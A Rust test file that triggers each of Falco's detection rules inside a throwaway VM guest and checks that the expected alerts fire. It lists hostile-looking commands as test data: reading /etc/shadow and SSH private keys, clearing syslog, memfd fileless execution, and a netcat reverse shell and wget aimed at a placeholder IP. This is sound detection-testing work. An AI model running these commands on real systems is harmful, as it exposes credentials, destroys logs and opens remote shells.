//! Falco's official rules, live: an act for each rule that real Falco raised in its guest.
//!
//! The acts write to program directories, empty logs and start containers, so they run only inside
//! a guest made for them: `scripts/vm-rules.sh` boots one and names the folder of the rule files in
//! `PEREGRINE_GUEST`.

#![expect(clippy::unwrap_used, reason = "a failed test may panic")]
#![expect(clippy::print_stdout, reason = "the serial line is all that is seen of a guest")]

#[expect(dead_code, reason = "the live tests use the rest")]
#[path = "live/support/agent.rs"]
mod agent;

use std::collections::BTreeSet;
use std::process::{Command, Stdio};
use std::time::Duration;

use agent::Watched;

/// Where an act happens.
#[derive(Clone, Copy)]
enum Place {
    Host,
    /// In namespaces and a control group of a container's kind, on an overlay file system.
    Container,
    /// In a container, on a terminal.
    Terminal,
}

use Place::{Container, Host, Terminal};

/// A rule and what raises it. Names of programs are what most rules ask for, so most programs are
/// copies of `true`.
const ACTS: &[(&str, Place, &str)] = &[
    (
        "Modify binary dirs",
        Host,
        "mv /usr/bin/script /usr/bin/moved; mv /usr/bin/moved /usr/bin/script",
    ),
    ("BPF Program Not Profiled", Host, "perl -e 'syscall(321, 5, 0, 0)'"),
    ("Read sensitive file untrusted", Host, "cat /etc/shadow"),
    ("Write below monitored dir", Host, "echo x > /usr/local/bin/made"),
    (
        "Potential Local Privilege Escalation via Environment Variables Misuse",
        Host,
        "GLIBC_TUNABLES=glibc.malloc.check=1 /bin/true",
    ),
    ("Clear Log Activities", Host, "echo x > /var/log/syslog"),
    ("Non sudo setuid", Host, "perl -e 'syscall(105, 1); syscall(105, 1)'"),
    ("Write below binary dir", Host, "echo x > /usr/bin/made"),
    ("Create files below dev", Host, "echo x > /dev/made"),
    ("DB program spawned process", Host, "cp /bin/sh /tmp/mysqld; /tmp/mysqld -c 'ls /; :'"),
    (
        "Detect crypto miners using the Stratum protocol",
        Host,
        "/bin/true -o stratum+tcp://pool.invalid:3333",
    ),
    (
        "Directory traversal monitored file read",
        Host,
        r#"perl -e 'system("cat", "/etc/../etc/../etc/passwd")'"#,
    ),
    (
        "Fileless execution via memfd_create",
        Host,
        r#"perl -e 'my $n = "m"; my $fd = syscall(319, $n, 0); open(my $out, ">&=", $fd); binmode $out;
            open(my $in, "<", "/bin/true"); local $/; my $data = <$in>; syswrite $out, $data;
            exec {"/proc/self/fd/$fd"} "hidden"'"#,
    ),
    (
        "Launch Suspicious Network Tool on Host",
        Host,
        "cp /bin/true /tmp/nmap; /tmp/nmap -sS 127.0.0.1",
    ),
    ("Modify Shell Configuration File", Host, r#"perl -e 'open(my $f, ">>", "/tmp/.bashrc")'"#),
    ("PTRACE anti-debug attempt", Host, "perl -e 'syscall(101, 0, 0, 0, 0)'"),
    (
        "Read ssh information",
        Host,
        "mkdir -p /root/.ssh; echo k > /root/.ssh/id_rsa; cat /root/.ssh/id_rsa",
    ),
    (
        "Run shell untrusted",
        Host,
        r#"cp /usr/bin/perl /tmp/httpd; /tmp/httpd -e 'system("sh", "-c", "ls /; :")'"#,
    ),
    (
        "Web Server Spawned Shell",
        Host,
        r#"cp /usr/bin/perl /tmp/nginx; /tmp/nginx -e 'system("sh", "-c", "ls /; :")'"#,
    ),
    ("Search Private Keys or Passwords", Host, "find /root -name id_rsa"),
    (
        "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
        Host,
        "perl -e 'syscall(105, 1); syscall(323, 1)'",
    ),
    ("Write below rpm database", Host, "echo x > /var/lib/rpm/made"),
    ("Set Setuid or Setgid bit", Host, "cp /bin/true /tmp/raised; chmod u+s /tmp/raised"),
    (
        "System user interactive",
        Host,
        r#"cp /bin/true /tmp/login; perl -e 'syscall(105, 1); exec "/tmp/login"'"#,
    ),
    ("User mgmt binaries", Host, "cp /bin/true /tmp/useradd; /tmp/useradd somebody"),
    ("Launch Excessively Capable Container", Container, "true"),
    ("Launch Sensitive Mount Container", Container, "true"),
    ("Read environment variable from /proc files", Container, "cat /proc/self/environ"),
    (
        "Drop and execute new binary in container",
        Container,
        "cp /bin/true /tmp/dropped; /tmp/dropped; :",
    ),
    (
        "Launch Ingress Remote File Copy Tools in Container",
        Container,
        "/opt/wget http://192.0.2.1/; :",
    ),
    ("Launch Suspicious Network Tool in Container", Container, "/opt/ncat -l 1; :"),
    ("Decoding Payload in Container", Container, "/opt/base64 -d; :"),
    ("Launch Package Management Process in Container", Container, "/opt/apk add tool; :"),
    ("Launch Remote File Copy Tools in Container", Container, "/opt/rsync a b; :"),
    ("Netcat Remote Code Execution in Container", Container, "/opt/nc -e /bin/sh 192.0.2.1 1; :"),
    ("Packet socket created in container", Container, "perl -e 'syscall(41, 17, 3, 0)'; :"),
    (
        "Contact K8S API Server From Container",
        Container,
        "nc -l -p 6443 & sleep 1; bash -c 'exec 3<>/dev/tcp/127.0.0.9/6443'; :",
    ),
    ("Terminal shell in container", Terminal, r#"/opt/runc -e 'system("sh", "-c", "ls /; :")'; :"#),
];

fn shell(script: &str) {
    let output = Command::new("sh").args(["-c", script]).stdin(Stdio::null()).output().unwrap();
    let text = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(output.status.success(), "{script}: {} {text}", output.status);
}

/// A file system for containers, programs with telling names in it, and a control group as a
/// container engine makes them.
fn prepare() {
    shell(
        "mkdir /c; mount -t tmpfs c /c; mkdir /c/lower /c/upper /c/work /c/root
         cp -a /bin /lib* /usr /etc /root /c/lower/; mkdir /c/lower/proc /c/lower/dev /c/lower/tmp /c/lower/opt
         for name in wget ncat nc base64 apk rsync; do cp /usr/bin/true /c/lower/opt/$name 2>/dev/null || cp /bin/true /c/lower/opt/$name; done
         cp /usr/bin/perl /c/lower/opt/runc
         mount -t overlay -o lowerdir=/c/lower,upperdir=/c/upper,workdir=/c/work overlay /c/root
         mount --bind /dev /c/root/dev
         cd /sys/fs/cgroup; mkdir docker; for one in . docker; do echo '+cpu +memory +io' > $one/cgroup.subtree_control; done",
    );
}

fn act(number: usize, place: Place, script: &str) {
    let words = match place {
        Host => {
            let _ = Command::new("sh").args(["-c", script]).stdin(Stdio::null()).output().unwrap();
            return;
        }
        Container => ["sh", "/tmp/enter"],
        Terminal => ["script", "-qec"],
    };
    std::fs::write("/c/script", script).unwrap();
    std::fs::write(
        "/tmp/enter",
        format!(
            "group=/sys/fs/cgroup/docker/{number:064x}; mkdir -p $group; echo $$ > $group/cgroup.procs
             exec unshare --mount --pid --fork sh -c \
             'mount -t proc proc /c/root/proc; exec chroot /c/root sh -c \"$(cat /c/script)\"'"
        ),
    )
    .unwrap();
    let mut command = Command::new(words[0]);
    command.arg(words[1]);
    if matches!(place, Terminal) {
        command.args(["sh /tmp/enter", "/dev/null"]);
    }
    let output = command.stdin(Stdio::null()).output().unwrap();
    let text = String::from_utf8_lossy(&output.stderr).into_owned();
    println!("  act {number}: {} {text}", output.status);
}

#[test]
fn every_rule_of_the_recorded_guest_is_raised() {
    let Some(folder) = std::env::var_os("PEREGRINE_GUEST") else {
        let why = "it harms the machine it runs on: scripts/vm-rules.sh runs it in a guest";
        peregrine_testkit::skipped("every_rule_of_the_recorded_guest_is_raised", why);
        return;
    };
    let folder = folder.into_string().unwrap();
    let files = ["falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml"]
        .map(|name| format!("{folder}/{name}"));
    prepare();
    let mut flags = vec!["--json", "-o", "rule_matching=all"];
    flags.extend(files.iter().flat_map(|file| ["-r", file]));
    let mut watched = Watched::start(&flags);
    watched.alerts_after(Duration::from_millis(500));
    let mut missing = Vec::new();
    let mut raised = BTreeSet::new();
    for (number, (rule, place, script)) in ACTS.iter().enumerate() {
        act(number, *place, script);
        let alerts = watched.alerts_after(Duration::from_millis(300));
        let names: BTreeSet<String> =
            alerts.iter().map(|alert| alert["rule"].as_str().unwrap().to_owned()).collect();
        println!("rule {rule}: {names:?}");
        if !names.contains(*rule) {
            missing.push(*rule);
        }
        raised.extend(names);
    }
    println!("{}", watched.stop());
    let expected: BTreeSet<String> = ACTS.iter().map(|(rule, ..)| (*rule).to_owned()).collect();
    assert_eq!(expected.len(), 38);
    let more: Vec<&String> = raised.difference(&expected).collect();
    println!("missing: {missing:?}\nmore: {more:?}");
    assert!(missing.is_empty() && more.is_empty());
}
